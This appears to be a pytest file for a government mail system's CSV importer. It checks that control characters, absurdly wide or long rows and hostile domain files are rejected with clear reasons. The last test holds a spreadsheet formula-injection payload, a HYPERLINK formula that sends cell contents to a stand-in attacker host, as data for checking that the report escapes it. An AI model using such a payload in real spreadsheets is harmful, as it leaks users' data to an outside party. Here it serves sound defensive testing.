"""Files an agency's export or a hostile hand can give the importer: control characters in
cells, rows of absurd width, lines of many megabytes, hostile domain files. Each gives a
clear reason naming the row and the column (or the file), never a 500, a store error or a
blown memory."""

from __future__ import annotations

import csv
import io
import tracemalloc
import uuid
from pathlib import Path

import pytest

from mailgothai.core.csvimport import detect_format, read_records
from mailgothai.errors import InvalidInput
from mailgothai.services.imports import ImportService
from mailgothai.services.registry import Services
from tests.conftest import Cli

pytestmark = pytest.mark.sql


def tag() -> str:
    return "h" + uuid.uuid4().hex[:8]


def importer(services: Services) -> ImportService:
    return ImportService(services.backends, services.actor)


def test_a_nul_in_an_email_cell_rejects_the_row_on_email(services: Services, tmp_path: Path) -> None:
    """PostgreSQL cannot store NUL: the raw cell gave a StoreError (503) naming no row."""
    domain = f"{tag()}.go.th"
    services.domains.add(domain, description="nul")
    path = tmp_path / "nul.csv"
    path.write_bytes(f"email,given_name,surname\nsom\x00chai@{domain},x,y\nok@{domain},x\x01,y\n"
                     f"fine@{domain},Somchai,Jaidee\n".encode())
    service = importer(services)
    job = service.start_job(path)
    summary = service.validate(job.id)  # no StoreError
    assert summary.to_create == 1 and summary.rejected == 2
    bad = {r.row: r for r in service.rows(job.id)}
    assert bad[1].column == "email" and "control character (U+0000)" in bad[1].reason
    assert "\x00" not in bad[1].email and "som" in bad[1].email
    assert bad[2].column == "given_name" and "U+0001" in bad[2].reason
    report = tmp_path / "report.csv"
    with open(report, "w", newline="", encoding="utf-8") as out:
        service.write_report(job.id, out)
    with open(report, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert "\x00" not in report.read_text(encoding="utf-8") and len(rows) == 3


# ---- sizes: a refusal of bounded length, rows of bounded width and length ----
def _read_all(data: bytes) -> list[list[str]]:
    stream = io.BytesIO(data)
    fmt = detect_format(stream)
    _, records = read_records(stream, fmt)
    return [r.cells for r in records]


def test_a_row_of_ten_thousand_cells_is_refused_naming_the_row() -> None:
    """Blank cells past the header were read on (Excel's trailing ones), without end."""
    data = ("email,given_name,surname\nok@a.go.th,x,y\n" + "a@a.go.th,Somchai,Jaidee" + "," * 10_000
            + "\n").encode()
    with pytest.raises(InvalidInput) as refused:
        _read_all(data)
    assert refused.value.field == "file"
    assert "data row 2 (line 3) has 10003 cells, more than 1024" in refused.value.reason
    assert len(_read_all(b"email,x\na@a.go.th,b" + b"," * 1000 + b"\n")[0]) == 1002  # Excel's trailing cells


def test_a_row_of_many_megabytes_is_refused_before_it_is_read_whole() -> None:
    """An 80 MB row of ",a" took 946 MB (40 million cells); here 20 MB, read within a few."""
    data = b"email,given_name\n" + b"a@a.go.th" + b",a" * 10_000_000 + b"\n"
    tracemalloc.start()
    try:
        with pytest.raises(InvalidInput) as refused:
            _read_all(data)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "data row 1 (from line 2) is longer than 1048576 characters" in refused.value.reason
    assert peak < 24 << 20, peak
    quoted = b'email,given_name\n"a@a.go.th","' + b"x\n" * 700_000 + b'"\n'  # line breaks in one cell
    with pytest.raises(InvalidInput) as unclosed:
        _read_all(quoted)
    assert "data row 1" in unclosed.value.reason


def test_a_refused_file_keeps_a_short_reason_on_the_job(services: Services, tmp_path: Path) -> None:
    """A 20 MB line gave a 20,000,225-character error in SQL; a 60 KB header word, one of 120,000."""
    service = importer(services)
    long_line = tmp_path / "long.csv"
    long_line.write_bytes(b"email,given_name\na@a.go.th," + b"x" * 1_000_000 + b"\xfc\n")
    long_word = tmp_path / "word.csv"  # Latin-1: "é" after a Latin letter reads as a Thai tone mark
    long_word.write_bytes(b"email,given_name," + b"A" * 30_000 + b"\xe9" + b"B" * 30_000 + b"\na@a.go.th,x,y\n")
    for path in (long_line, long_word):
        job = service.start_job(path)
        with pytest.raises(InvalidInput):
            service.validate(job.id)
        failed = service.get_job(job.id)
        assert failed.state.value == "failed" and failed.error.startswith("file: ")
        assert len(failed.error) < 2000, len(failed.error)
        assert failed.error_why is not None and len(str(failed.error_why)) < 2000


# ---- import-domains ----
def test_a_nul_in_a_domain_cell_rejects_that_row_and_the_file_goes_on(services: Services, tmp_path: Path) -> None:
    """slapd's invalidDNSyntax was not caught: the file stopped there, rows before it created."""
    t = tag()
    path = tmp_path / "domains.csv"
    path.write_bytes(f"domain,description\na.{t}.go.th,first\nb\x00c.{t}.go.th,nul\nd.{t}.go.th,after\n"
                     f"e.{t}.go.th,bell\x07\n".encode())
    summary = importer(services).import_domains(path)
    assert (summary.created, summary.updated, summary.unchanged) == (2, 0, 0)
    assert {(r.row, r.column) for r in summary.bad} == {(2, "domain"), (4, "description")}
    assert all("\x00" not in r.email for r in summary.bad) and "U+0000" in summary.bad[0].reason
    assert services.domains.get(f"d.{t}.go.th").description == "after"


def test_an_idn_domain_file_run_twice_is_unchanged_the_second_time(services: Services, tmp_path: Path) -> None:
    """The cell was looked up as written (Thai), not as its stored A-label: 'already exists', exit 3."""
    t = tag()
    path = tmp_path / "idn.csv"
    path.write_text(f"domain,description,max_accounts\n{t}.กระทรวงทดสอบ.ไทย,กระทรวงทดสอบ,10\n"
                    f"{t.upper()}.Example.GO.TH,upper case,5\n", encoding="utf-8")
    first = importer(services).import_domains(path)
    assert (first.created, first.bad) == (2, ())
    again = importer(services).import_domains(path)
    assert (again.created, again.updated, again.unchanged, again.bad) == (0, 0, 2, ())
    changed = tmp_path / "idn2.csv"
    changed.write_text(f"domain,max_accounts\n{t}.กระทรวงทดสอบ.ไทย,20\n", encoding="utf-8")
    third = importer(services).import_domains(changed)
    assert (third.updated, third.bad) == (1, ())
    assert services.domains.get(f"{t}.xn--12cm3bkbt2db0b7a7a2a.xn--o3cw4h").limits.max_accounts == 20


def test_the_import_domains_report_guards_every_cell(cli: Cli, tmp_path: Path) -> None:
    """The report wrote the domain cell as it came: a formula when the report is opened in Excel."""
    t = tag()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    path = tmp_path / "domains.csv"
    with open(path, "w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows([("domain", "description"), (f"ok.{t}.go.th", "fine"), (formula, "x"),
                                   ("@SUM(1+1)", "y"), (f"q.{t}.go.th", "-1+2")])
    report = tmp_path / "report.csv"
    done = cli("import-domains", str(path), "--report", str(report))
    assert done.returncode == 3, done.stdout + done.stderr
    with open(report, newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["row", "domain", "column", "reason"]
    cells = {row[0]: row[1] for row in rows[1:]}
    assert cells["2"] == "'" + formula and cells["3"] == "'@SUM(1+1)"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
